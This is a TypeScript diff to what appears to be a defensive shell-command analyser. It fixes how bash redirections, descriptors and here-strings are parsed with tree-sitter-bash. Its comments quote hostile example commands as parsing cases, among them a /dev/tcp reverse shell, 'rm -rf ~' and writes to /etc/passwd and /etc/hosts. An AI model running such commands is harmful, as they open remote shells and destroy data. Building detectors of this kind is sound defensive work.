@@ -3,7 +3,7 @@
 // descriptors open on a network connection (`bash -i >& /dev/tcp/h/p 0>&1`: stdin is the connection).
 import type { ShellWord, StdinFeed } from './analysis-types';
 import type { SyntaxNode } from './shell-parser';
-import { buildWord, fieldWords } from './shell-words';
+import { buildJoinedWord, escapedGap, fieldWords } from './shell-words';
 import type { Scope } from './walk-scope';
 import type { WalkerApi } from './walker-api';
 
@@ -29,9 +29,9 @@ export function applyRedirects(api: WalkerApi, redirects: readonly SyntaxNode[],
   for (const redirect of redirects) {
     if (redirect.type === 'file_redirect') applyFileRedirect(api, redirect, scope, commandText, effects, connections);
     else if (redirect.type === 'herestring_redirect') {
-      const target = redirect.namedChildren.at(-1);
-      if (!target) continue;
-      const word = buildWord(target, api.wordHooks(scope));
+      const target = redirectOperands(redirect).target;
+      if (!target.length) continue;
+      const word = buildJoinedWord(target, api.wordHooks(scope));
       const known = word.literal || word.guess !== undefined;
       effects.stdin = { kind: 'herestring', text: `${word.guess ?? word.value}\n`, literal: known, word };
       connections.delete('0');
@@ -48,12 +48,16 @@ function stdinOf(connections: ReadonlyMap<string, string> | undefined): { stdin?
 
 /**
  * tree-sitter-bash reads the `0` of `sh 0<x` as an argument, and that of `>& x 0>&1` as a second
- * target of the redirection before: digits written right against a redirection are its descriptor.
+ * target of the redirection before: digits (or `{name}`) written right against a redirection are
+ * its descriptor.
  */
 export function isDescriptorOfNext(node: SyntaxNode): boolean {
-  if (node.type !== 'number' || !/^\d+$/.test(node.text)) return false;
+  // `{name}>file` opens a descriptor and keeps its number in `name`: no argument either.
+  if (!(node.type === 'number' && /^\d+$/.test(node.text)) && !/^\{[A-Za-z_]\w*\}$/.test(node.text)) return false;
   const next = node.nextSibling ?? node.parent?.nextSibling;
   if (!next || next.startIndex !== node.endIndex) return false;
+  // `&>` and `&>>` take no descriptor: `2&>x` is the word `2`, then the redirection.
+  if (next.children.find((child) => !child.isNamed)?.type.startsWith('&>')) return false;
   return isSplitReadWrite(next) || (next.type.endsWith('_redirect') && !next.childForFieldName('descriptor'));
 }
 
@@ -63,9 +67,41 @@ function isSplitReadWrite(node: SyntaxNode): boolean {
   return node.type === 'ERROR' && node.text === '<' && next?.type === 'file_redirect' && next.startIndex === node.endIndex;
 }
 
-/** What bash takes for a redirection's descriptor: digits, or `{name}` (a variable it sets). */
-export function isBashDescriptor(text: string): boolean {
-  return /^(?:\d+|\{\w+\})$/.test(text);
+/**
+ * The descriptor tree-sitter-bash reads that bash reads as a word of the command: anything but
+ * digits or `{name}` (`-12>x`, `-a1>x`), and anything before `&>`, which takes none (`2&>x`).
+ */
+export function misplacedDescriptor(redirect: SyntaxNode): SyntaxNode | undefined {
+  const written = redirect.childForFieldName('descriptor');
+  if (!written) return undefined;
+  const operator = redirect.children.find((child) => !child.isNamed)?.type ?? '';
+  return /^(?:\d+|\{[A-Za-z_]\w*\})$/.test(written.text) && !operator.startsWith('&>') ? undefined : written;
+}
+
+/**
+ * A file or here-string redirection's words after its descriptor: its target (nodes that touch
+ * make one word: `>'/etc/'\passwd`), then the rest, which tree-sitter-bash reads as more targets
+ * but bash as the command's arguments (`rm >/dev/null -rf ~`). `>&-` takes no target.
+ */
+export function redirectOperands(redirect: SyntaxNode): { target: SyntaxNode[]; rest: SyntaxNode[] } {
+  const descriptor = redirect.childForFieldName('descriptor');
+  const operands = redirect.namedChildren.filter((child) => child.type !== 'ERROR' && !(child.type === 'file_descriptor' && child.startIndex === descriptor?.startIndex));
+  const closes = redirect.children.some((child) => !child.isNamed && /^[<>]&-$/.test(child.type));
+  if (closes || !operands.length) return { target: [], rest: operands };
+  let end = 1;
+  while (end < operands.length && escapedGap(operands[end - 1]!, operands[end]!) !== undefined) end++;
+  if (redirect.type === 'herestring_redirect' && end === operands.length) return { target: [...operands, ...herestringTail(redirect)], rest: [] };
+  return { target: operands.slice(0, end), rest: operands.slice(end) };
+}
+
+/** Words against a here-string's end that tree-sitter-bash makes the command's (`<<<'rm -rf '\~`): its own. */
+export function herestringTail(redirect: SyntaxNode): SyntaxNode[] {
+  if (redirect.type !== 'herestring_redirect') return [];
+  const tail: SyntaxNode[] = [];
+  for (let sibling = redirect.nextSibling; sibling && !sibling.type.endsWith('_redirect') && escapedGap(tail.at(-1) ?? redirect, sibling) !== undefined; sibling = sibling.nextSibling) {
+    tail.push(sibling);
+  }
+  return tail;
 }
 
 /** The operator and descriptor as bash reads them, where tree-sitter-bash splits `<>` or misplaces a `0`. */
@@ -80,7 +116,7 @@ function readRedirect(redirect: SyntaxNode): { operator: string; descriptor?: st
     start = split;
   }
   const written = redirect.childForFieldName('descriptor');
-  if (written) return isBashDescriptor(written.text) ? { operator, descriptor: written.text } : { operator };
+  if (written) return misplacedDescriptor(redirect) ? { operator } : { operator, descriptor: written.text };
   let before = start.previousSibling;
   while (before && before.childCount > 0) before = before.lastChild;
   return before && isDescriptorOfNext(before) ? { operator, descriptor: before.text } : { operator };
@@ -107,9 +143,10 @@ function followConnections(connections: Map<string, string>, operator: string, w
 
 function applyFileRedirect(api: WalkerApi, redirect: SyntaxNode, scope: Scope, commandText: string, effects: RedirectEffects, connections: Map<string, string>): void {
   const { operator, descriptor } = readRedirect(redirect);
-  const destinationNode = redirect.childForFieldName('destination') ?? redirect.namedChildren.at(-1);
+  const target = redirectOperands(redirect).target;
+  const destinationNode = target[0];
   if (!destinationNode || destinationNode.type === 'file_descriptor') return;
-  const destination = buildWord(destinationNode, api.wordHooks(scope));
+  const destination = buildJoinedWord(target, api.wordHooks(scope));
   followConnections(connections, operator, descriptor, destination.guess ?? destination.value);
   // Bash expands a target's braces too: `> /{e..e}tc/hosts` writes /etc/hosts (more than one word
   // is an error, but each is judged).
